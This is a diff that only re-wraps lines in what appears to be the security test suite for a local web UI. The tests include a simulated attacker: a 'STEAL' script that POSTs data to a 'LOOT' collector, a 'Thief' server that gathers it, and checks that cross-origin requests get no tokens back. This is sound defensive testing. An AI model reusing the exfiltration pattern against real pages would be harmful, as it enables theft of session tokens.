@@ -29,7 +29,10 @@ const STEAL = `const tell = (what) => fetch(LOOT, { method: "POST", mode: "no-co
 class Thief {
   readonly loot: string[] = [];
   readonly #collector = createServer((request, response) => {
-    request.toArray().then((pieces: Buffer[]) => this.loot.push(Buffer.concat(pieces).toString()), () => undefined);
+    request.toArray().then(
+      (pieces: Buffer[]) => this.loot.push(Buffer.concat(pieces).toString()),
+      () => undefined,
+    );
     response.end();
   });
   readonly #server = createServer((request, response) => {
@@ -136,7 +139,10 @@ test(
       const of = async (path, init) => { const answer = await new Promise((ok) => { const e = new XMLHttpRequest(); e.open(init?.method ?? "GET", path); e.onloadend = () => ok(e.status + e.responseText); e.send(init?.body); }); return answer; };
       return [await of("/v1/about"), await of("/session", { method: "POST", body: '{"code":"x"}' })];
     })()`)) as string[];
-    assert.ok(asked.every((each) => !/"read_only"|"token":/.test(each)), String(asked));
+    assert.ok(
+      asked.every((each) => !/"read_only"|"token":/.test(each)),
+      String(asked),
+    );
 
     const before = thief.loot.length;
     const address = new URL(ui.url);
@@ -180,7 +186,9 @@ test("the page of --address works at its random address", { skip: SKIP }, async 
 test("the next page begins with the view that was open last in the workspace", { skip: SKIP }, async (t) => {
   const folder = workspace("last-view");
   const first = await open(t, folder, { expected: /^Failed to load resource: / });
-  const noted = first.page.waitForResponse((answer) => answer.request().postData()?.includes("search") === true && answer.url().endsWith("/view"));
+  const noted = first.page.waitForResponse(
+    (answer) => answer.request().postData()?.includes("search") === true && answer.url().endsWith("/view"),
+  );
   await first.go({ view: "search", workspace: folder, q: "secret" });
   await noted;
   await first.ui.end();
@@ -202,10 +210,14 @@ test("the page works through ssh -L, at the same and at another port", { skip: S
   // This machine is both ends, and the server has the port already.
   const address = new URL(ui.url);
   address.port = String(await freePort());
-  const ssh = spawn("sh", ["-c", `exec ${server.command(`-N -p ${server.port} -L ${address.port}:127.0.0.1:${line[2]}`)} 127.0.0.1`], {
-    env: server.env,
-    stdio: "ignore",
-  });
+  const ssh = spawn(
+    "sh",
+    ["-c", `exec ${server.command(`-N -p ${server.port} -L ${address.port}:127.0.0.1:${line[2]}`)} 127.0.0.1`],
+    {
+      env: server.env,
+      stdio: "ignore",
+    },
+  );
   t.after(() => ssh.kill());
   await eventually("the tunnel listens", () => isAnswered(Number(address.port)));
   const tab = await context.newPage();
